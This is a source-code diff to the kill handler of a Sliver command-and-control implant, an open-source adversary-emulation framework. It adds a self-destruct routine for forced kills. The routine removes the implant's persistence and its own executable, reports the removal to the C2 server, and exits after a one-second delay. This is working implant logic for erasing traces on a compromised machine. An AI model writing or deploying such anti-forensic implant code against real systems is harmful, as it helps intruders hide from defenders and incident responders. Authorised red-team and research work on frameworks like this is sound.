@@ -20,8 +20,10 @@ package handlers
 
 import (
 	"os"
+	"time"
 
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/sliver/persist"
 	"github.com/bishopfox/sliver/sliver/transports"
 
 	// {{if .IsSharedLib}}
@@ -35,6 +37,11 @@ import (
 	"github.com/golang/protobuf/proto"
 )
 
+const (
+	// selfDestructDelay - Time for the report to go out before we exit
+	selfDestructDelay = time.Second
+)
+
 var specialHandlers = map[uint32]SpecialHandler{
 	sliverpb.MsgKillSessionReq: killHandler,
 }
@@ -53,6 +60,13 @@ func killHandler(data []byte, connection *transports.Connection) error {
 	if err != nil {
 		return err
 	}
+	// A force kill removes our persistence and executable, the report is
+	// the server's confirmation that we're gone for good
+	if killReq.Force {
+		data, _ := proto.Marshal(persist.SelfDestruct("kill --force"))
+		connection.Send <- &sliverpb.Envelope{Type: sliverpb.MsgSelfDestruct, Data: data}
+		time.Sleep(selfDestructDelay)
+	}
 	// {{if .IsSharedLib}}
 	// {{if eq .GOOS "windows"}}
 	if runtime.GOOS == "windows" {